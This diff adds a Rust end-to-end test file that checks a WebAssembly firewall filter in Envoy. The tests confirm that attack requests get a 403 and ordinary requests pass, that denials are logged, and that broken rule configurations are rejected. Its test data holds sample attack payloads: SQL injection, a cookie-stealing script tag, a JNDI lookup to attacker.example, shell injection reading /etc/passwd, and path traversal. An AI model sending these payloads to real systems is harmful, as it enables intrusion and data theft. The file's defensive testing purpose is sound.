@@ -1,0 +1,333 @@
+//! The filter in a real Envoy: what passes, what is denied, and what a broken configuration does.
+//!
+//! `ENVOY` and `PARAPET_WASM` choose other binaries than `make e2e` does.
+
+mod client;
+mod gateway;
+
+use client::{Request, VERSIONS, Version};
+use gateway::Gateway;
+use serde_json::{Value, json};
+use std::io::{BufRead, BufReader};
+use std::net::TcpStream;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+use wasm_tests::{project, wasm};
+
+/// A plugin configuration with one profile for everybody.
+fn plugin(directives: &[&str]) -> Value {
+    json!({ "directives_map": { "default": directives }, "default_directives": "default" })
+}
+
+/// The rule sets that the filter holds. The Core Rule Set is one of them where `make crs` brought
+/// it before the build.
+fn rule_sets() -> Vec<(&'static str, Value)> {
+    let mut sets = vec![(
+        "baseline",
+        plugin(&["Include @demo-conf", "Include @baseline/*.conf"]),
+    )];
+    if project().join("rules/crs").is_dir() {
+        let crs = [
+            "Include @demo-conf",
+            "Include @crs-setup-conf",
+            "Include @owasp_crs/*.conf",
+        ];
+        sets.push(("Core Rule Set", plugin(&crs)));
+    } else {
+        assert!(
+            std::env::var_os("PARAPET_REQUIRE_DATA").is_none(),
+            "rules/crs is missing: run `make crs`"
+        );
+    }
+    sets
+}
+
+fn ordinary_requests() -> Vec<(&'static str, Request)> {
+    vec![
+        (
+            "a browser's GET",
+            Request::get("/products?category=garden&sort=price&page=2"),
+        ),
+        (
+            "a form",
+            Request::form(
+                "/account",
+                "name=Ada+Lovelace&city=London&about=I+like+engines%21",
+            ),
+        ),
+        (
+            "JSON",
+            Request::json(
+                "/api/orders",
+                r#"{"items":[{"sku":"A-17","count":2}],"note":"by Friday"}"#,
+            ),
+        ),
+    ]
+}
+
+fn attacks() -> Vec<(&'static str, Request)> {
+    vec![
+        (
+            "SQL injection in the query",
+            Request::get("/item?id=1%27%20OR%20%271%27=%271"),
+        ),
+        (
+            "script in a form",
+            Request::form(
+                "/comments",
+                "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+            ),
+        ),
+        (
+            "a lookup in a header",
+            Request::get("/").header("x-api-version", "${jndi:ldap://attacker.example/a}"),
+        ),
+        (
+            "a shell command in JSON",
+            Request::json("/api/ping", r#"{"host":"127.0.0.1; cat /etc/passwd"}"#),
+        ),
+        (
+            "traversal in an argument",
+            Request::get("/download?file=../../../../etc/passwd"),
+        ),
+        (
+            "traversal in the path",
+            Request::get("/static/../../../../etc/passwd"),
+        ),
+    ]
+}
+
+#[test]
+fn attacks_end_before_the_backend_and_ordinary_requests_reach_it() {
+    for (rules, plugin) in rule_sets() {
+        let gateway = Gateway::start(&plugin);
+        for version in VERSIONS {
+            for (name, request) in attacks() {
+                let answer = gateway.send(version, &request);
+                assert_eq!(
+                    answer.status,
+                    403,
+                    "{rules}, {version:?}: {name}\n{}",
+                    gateway.log()
+                );
+            }
+        }
+        assert_eq!(
+            gateway.backend.connections(),
+            0,
+            "{rules}: a denied request went upstream"
+        );
+
+        for version in VERSIONS {
+            for (name, request) in ordinary_requests() {
+                let answer = gateway.send(version, &request);
+                let case = format!("{rules}, {version:?}: {name}");
+                assert_eq!(answer.status, 200, "{case}\n{}", gateway.log());
+                assert_eq!(
+                    answer.text(),
+                    format!("reached with {} bytes", request.body.len())
+                );
+                let received = gateway.backend.last().expect(&case);
+                assert_eq!(
+                    (received.target, received.body),
+                    (request.path, request.body),
+                    "{case}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn a_denial_names_its_rule_in_the_log() {
+    let rule = r#"SecRule ARGS:colour "@streq mauve" "id:4711,phase:2,deny,status:406,log,msg:'No mauve here'""#;
+    let gateway = Gateway::start(&plugin(&["SecRuleEngine On", rule]));
+    let mauve = Request::get("/?colour=mauve");
+    assert_eq!(gateway.send(Version::Http1, &mauve).status, 406);
+    let log = gateway.log();
+    let line = log
+        .lines()
+        .find(|line| line.contains(r#"[id "4711"]"#))
+        .expect(&log);
+    assert!(
+        line.contains("No mauve here") && line.contains("ARGS:colour"),
+        "{line}"
+    );
+}
+
+/// Configurations that must be refused, and what the message has to name.
+fn broken() -> Vec<(&'static str, String, Vec<&'static str>)> {
+    let rules = |text: &str| plugin(&["SecRuleEngine On", text]).to_string();
+    vec![
+        (
+            "unknown operator",
+            rules(r#"SecRule ARGS "@containz x" "id:1,phase:2,deny""#),
+            vec!["@containz", "contains"],
+        ),
+        (
+            "unclosed quote",
+            rules(r#"SecRule ARGS "@rx x" "id:1,phase:2,deny"#),
+            vec!["quote"],
+        ),
+        (
+            "bad regex",
+            rules(r#"SecRule ARGS "@rx (unclosed" "id:1,phase:2,deny""#),
+            vec!["(unclosed"],
+        ),
+        (
+            "duplicate id",
+            rules("SecAction \"id:77,phase:1,pass,nolog\"\nSecAction \"id:77,phase:1,pass,nolog\""),
+            vec!["77"],
+        ),
+        (
+            "chain without end",
+            rules(r#"SecRule ARGS "@rx x" "id:1,phase:2,deny,chain""#),
+            vec!["chain"],
+        ),
+        (
+            "unknown file",
+            rules("Include @no-such-conf"),
+            vec!["@no-such-conf"],
+        ),
+        (
+            "unknown key",
+            json!({ "directive_map": { "default": [] }, "default_directives": "default" })
+                .to_string(),
+            vec!["directive_map"],
+        ),
+        ("no JSON", "directives_map: {}".to_owned(), vec!["JSON"]),
+    ]
+}
+
+#[test]
+fn a_broken_update_is_refused_with_a_reason_and_the_old_rules_keep_serving() {
+    let rule = |word: &str| {
+        plugin(&[
+            "SecRuleEngine On",
+            &format!(r#"SecRule ARGS "@contains {word}" "id:10,phase:2,deny,status:403,nolog""#),
+        ])
+    };
+    let (old, new) = (Request::get("/?a=teapot"), Request::get("/?a=kettle"));
+    let mut gateway = Gateway::start(&rule("teapot"));
+    let statuses = |gateway: &Gateway| {
+        [&old, &new].map(|request| gateway.send(Version::Http1, request).status)
+    };
+    assert_eq!(statuses(&gateway), [403, 200]);
+
+    for (name, configuration, needles) in broken() {
+        let before = gateway.log().len();
+        assert!(
+            !gateway.update(&configuration),
+            "{name}: Envoy took the update"
+        );
+        let log = gateway.log().split_off(before);
+        for needle in needles {
+            assert!(
+                log.contains(needle),
+                "{name}: the log does not name {needle}:\n{log}"
+            );
+        }
+        assert_eq!(
+            statuses(&gateway),
+            [403, 200],
+            "{name}: the old rules are gone"
+        );
+    }
+
+    assert!(
+        gateway.update(&rule("kettle").to_string()),
+        "{}",
+        gateway.log()
+    );
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while statuses(&gateway) != [200, 403] {
+        assert!(Instant::now() < deadline, "the new rules do not serve");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+#[test]
+fn a_broken_configuration_at_start_is_refused_with_a_reason() {
+    let (name, configuration, needles) = broken().swap_remove(0);
+    let log = gateway::refusal(&configuration);
+    for needle in needles {
+        assert!(
+            log.contains(needle),
+            "{name}: the log does not name {needle}:\n{log}"
+        );
+    }
+}
+
+#[test]
+fn the_shipped_examples_are_valid() {
+    let mut count = 0;
+    for entry in std::fs::read_dir(project().join("envoy")).unwrap() {
+        let file = entry.unwrap().path();
+        if file.extension().is_some_and(|it| it == "yaml") {
+            let mut text = std::fs::read_to_string(&file).unwrap();
+            if !project().join("rules/crs").is_dir() {
+                text = text
+                    .replace("\"Include @crs-setup-conf\",", "")
+                    .replace("@owasp_crs", "@baseline");
+            }
+            gateway::validates(&text).unwrap_or_else(|log| panic!("{}:\n{log}", file.display()));
+            count += 1;
+        }
+    }
+    assert!(count > 0, "envoy/ has no example");
+}
+
+/// `make run` as a newcomer sees it: an invitation, commands that do what they say, and an end.
+#[test]
+fn make_run_serves_a_guarded_gateway_and_stops_both_programs() {
+    let [port, backend, admin] = [(); 3].map(|()| gateway::free_address());
+    let mut run = Command::new(project().join("scripts/run"))
+        .env("PARAPET_PORT", port.port().to_string())
+        .env("PARAPET_BACKEND_PORT", backend.port().to_string())
+        .env("PARAPET_ADMIN_PORT", admin.port().to_string())
+        .env("PARAPET_WASM", wasm())
+        .env("ENVOY", gateway::envoy())
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+
+    let mut lines = BufReader::new(run.stdout.take().unwrap())
+        .lines()
+        .map_while(Result::ok);
+    let mut said: Vec<String> = Vec::new();
+    for line in lines.by_ref() {
+        let last = line.contains("Ctrl-C");
+        said.push(line);
+        if last {
+            break;
+        }
+    }
+    let said = said.join("\n");
+    assert!(
+        said.contains("ready: ") && said.contains("rules: "),
+        "{said}"
+    );
+    assert_eq!(said.matches("\n  curl ").count(), 5, "{said}");
+
+    let status = |request: &Request| client::send(Version::Http2, port, request).status;
+    assert_eq!(status(&Request::get("/search?q=sandbox&page=2")), 200);
+    assert_eq!(status(&attacks()[0].1), 403);
+
+    let pid = run.id().to_string();
+    assert!(
+        Command::new("kill")
+            .args(["-TERM", &pid])
+            .status()
+            .unwrap()
+            .success()
+    );
+    run.wait().unwrap();
+    for address in [port, backend, admin] {
+        assert!(
+            TcpStream::connect(address).is_err(),
+            "{address} still answers"
+        );
+    }
+}
